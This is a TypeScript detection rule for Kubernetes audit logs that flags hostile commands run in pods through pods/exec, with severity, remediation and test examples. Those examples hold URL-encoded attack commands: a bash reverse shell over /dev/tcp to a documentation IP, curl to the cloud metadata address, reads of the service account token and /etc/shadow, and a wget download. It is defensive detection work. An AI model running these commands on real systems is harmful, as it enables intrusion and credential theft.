import type { Severity } from "../../model/severity.ts";
import type { Text } from "../../model/text.ts";
import { describeAuditObject } from "../../semantics/audit/audit-object.ts";
import { type CommandPurpose, findPurposes } from "../../semantics/audit/command-purposes.ts";
import { findExecRequest } from "../../semantics/audit/exec-request.ts";
import { quoteCommand } from "../../semantics/audit/quote-command.ts";
import { defineEventDetector } from "../define.ts";

/** What is said of each purpose, and how bad it is. */
const purposes: Readonly<Record<CommandPurpose, { readonly severity: Severity; readonly name: Text }>> = {
  "reverse-shell": {
    severity: "critical",
    name: { en: "opens a shell to somebody elsewhere", ja: "外部へのリバースシェル" },
  },
  miner: { severity: "critical", name: { en: "mines", ja: "暗号資産の採掘" } },
  "cloud-metadata": {
    severity: "high",
    name: { en: "asks the cloud for the machine's credentials", ja: "クラウドのメタデータサービスへの接続" },
  },
  credentials: { severity: "high", name: { en: "reads credentials", ja: "認証情報の読み取り" } },
  download: { severity: "medium", name: { en: "downloads", ja: "外部からのダウンロード" } },
};

export const hostileCommand = defineEventDetector({
  id: "audit/hostile-command",
  aliases: [
    "falco:Attach/Exec Pod",
    "guardduty:Execution:Kubernetes/AnomalousBehavior.ExecInPod",
    "sigma:a1b0ca4e-7835-413e-8471-3ff2b8a66be6",
  ],
  title: { en: "Hostile command run in a pod", ja: "Pod 内での不審なコマンドの実行" },
  severity: "high",
  severityReason: {
    en: "Critical for reverse shells and miners, medium for downloads alone.",
    ja: "リバースシェルと採掘は「緊急」、ダウンロードだけの場合は「中」とします。",
  },
  why: {
    en: "The command is one that intruders run first: a shell to themselves, the machine's or the pod's credentials, or their own tools from elsewhere.",
    ja: "侵入者が最初に実行する種類のコマンドです。外部へのシェルの接続、マシンや Pod の認証情報の取得、外部からのツールの持ち込みが該当します。",
  },
  remediation: {
    en: "Take pods/exec from the caller; use images without shells and downloaders, and let network policies close the metadata address and the internet.",
    ja: "主体から pods/exec を外してください。シェルやダウンロードツールを含まないイメージを使用し、ネットワークポリシーでメタデータサービスとインターネットへの通信を遮断してください。",
  },
  response: [
    {
      en: "Isolate the pod by a network policy, and keep it running until memory and files are saved.",
      ja: "ネットワークポリシーで Pod を隔離し、メモリとファイルを保全するまで停止せずに残します。",
    },
    { en: "Withdraw the caller's credentials.", ja: "主体の認証情報を無効にします。" },
    {
      en: "Renew what the pod could read: its service account's token, mounted secrets, the cloud role of its node.",
      ja: "サービスアカウントのトークン、マウントされたシークレット、ノードのクラウドロールなど、Pod から読み取れる認証情報を更新します。",
    },
  ],
  falsePositives: {
    en: "People debug networks with curl, which gives medium, and look at the token to see whether it is there. Requests to localhost are left out.",
    ja: "ネットワークの調査での curl（深刻度「中」）や、トークンの有無の確認も該当します。localhost へのリクエストは対象外です。",
  },
  techniques: [
    "attack@18#T1059.004",
    "attack@18#T1105",
    "attack@18#T1496.001",
    "attack@18#T1552.001",
    "attack@18#T1552.005",
    "attack@18#T1609",
  ],
  sources: [
    "MITRE ATT&CK, T1059.004 Unix Shell; T1105 Ingress Tool Transfer; T1552.005 Cloud Instance Metadata API",
    "Kubernetes API reference, Pod v1, connect exec",
  ],
  reads: { verbs: ["create", "get"], resources: ["pods/exec"] },
  examples: {
    fires: [
      {
        name: "a shell to elsewhere",
        events: [
          {
            verb: "create",
            resource: "pods/exec",
            namespace: "shop",
            name: "web-0",
            uri: "?command=bash&command=-c&command=bash%20-i%20%3E%26%20%2Fdev%2Ftcp%2F203.0.113.9%2F4444%200%3E%261",
          },
        ],
      },
      {
        name: "the machine's credentials",
        events: [
          {
            verb: "get",
            resource: "pods/exec",
            namespace: "shop",
            name: "web-0",
            uri: "?command=curl&command=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F",
            level: "Metadata",
          },
        ],
      },
      {
        name: "the pod's token",
        events: [
          {
            verb: "create",
            resource: "pods/exec",
            namespace: "shop",
            name: "web-0",
            uri: "?command=cat&command=%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken",
          },
        ],
      },
      {
        name: "a download",
        events: [
          {
            verb: "create",
            resource: "pods/exec",
            namespace: "shop",
            name: "web-0",
            uri: "?command=wget&command=http%3A%2F%2F203.0.113.9%2Fx",
          },
        ],
      },
    ],
    silent: [
      {
        name: "a look at a file",
        events: [
          {
            verb: "create",
            resource: "pods/exec",
            namespace: "shop",
            name: "web-0",
            uri: "?command=cat&command=/etc/hosts&container=web",
          },
        ],
      },
      {
        name: "a health check",
        events: [
          {
            verb: "create",
            resource: "pods/exec",
            namespace: "shop",
            name: "web-0",
            uri: "?command=curl&command=http%3A%2F%2Flocalhost%3A8080%2Fhealthz",
          },
        ],
      },
      {
        name: "not allowed",
        events: [
          {
            verb: "create",
            resource: "pods/exec",
            namespace: "shop",
            name: "web-0",
            uri: "?command=cat&command=%2Fetc%2Fshadow",
            code: 403,
          },
        ],
      },
      {
        name: "a container of that name",
        events: [
          {
            verb: "create",
            resource: "pods/exec",
            namespace: "shop",
            name: "web-0",
            uri: "?command=ls&container=curl",
          },
        ],
      },
    ],
  },
  judge(event) {
    const command = findExecRequest(event)?.command ?? [];
    const [worst, ...others] = findPurposes(command);
    if (worst === undefined) return [];
    const { severity } = purposes[worst];
    const where = describeAuditObject(event);
    const names = [worst, ...others].map((purpose) => purposes[purpose].name);
    const shown = quoteCommand(command);
    return [
      {
        subject: where,
        message: {
          en: `Ran “${shown}” in ${where}, which ${names.map(({ en }) => en).join(", ")}.`,
          ja: `${where} で「${shown}」を実行しました（${names.map(({ ja }) => ja).join("、")}）。`,
        },
        severity,
      },
    ];
  },
});
